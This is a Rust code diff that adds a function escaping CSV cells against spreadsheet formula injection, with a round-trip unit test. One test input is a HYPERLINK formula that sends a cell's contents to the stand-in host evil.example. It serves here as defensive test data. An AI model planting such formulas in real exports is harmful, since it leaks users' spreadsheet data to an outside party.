@@ -67,6 +67,22 @@ pub fn indicator_letter(position: i64) -> String {
     }
 }
 
+/// A text cell for a CSV file that a spreadsheet will open: a cell starting with `=`,
+/// `+`, `-`, `@`, a tab or a carriage return would be run as a formula, so it gets a
+/// leading apostrophe (OWASP's advice); a cell already starting with an apostrophe
+/// gets one more, so `csv_text` undoes exactly what this adds.
+pub fn csv_cell(s: &str) -> std::borrow::Cow<'_, str> {
+    match s.chars().next() {
+        Some('=' | '+' | '-' | '@' | '\t' | '\r' | '\'') => format!("'{s}").into(),
+        _ => s.into(),
+    }
+}
+
+/// The text of a cell written by `csv_cell` (one leading apostrophe removed).
+pub fn csv_text(s: &str) -> &str {
+    s.strip_prefix('\'').unwrap_or(s)
+}
+
 /// The stored form of "now": UTC, second precision.
 pub fn now_stamp() -> String {
     chrono::Utc::now().format("%Y-%m-%dT%H:%M:%SZ").to_string()
@@ -75,6 +91,27 @@ pub fn now_stamp() -> String {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn spreadsheet_formulas_are_neutralised_and_restored() {
+        for (raw, written) in [
+            (
+                "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"klik\")",
+                "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"klik\")",
+            ),
+            ("@SUM(A1)", "'@SUM(A1)"),
+            ("+1", "'+1"),
+            ("-1", "'-1"),
+            ("\tx", "'\tx"),
+            ("\rx", "'\rx"),
+            ("'kutip", "''kutip"),
+            ("biasa", "biasa"),
+            ("", ""),
+        ] {
+            assert_eq!(csv_cell(raw), written, "{raw:?}");
+            assert_eq!(csv_text(&csv_cell(raw)), raw, "round trip {raw:?}");
+        }
+    }
 
     #[test]
     fn indonesian_dates() {
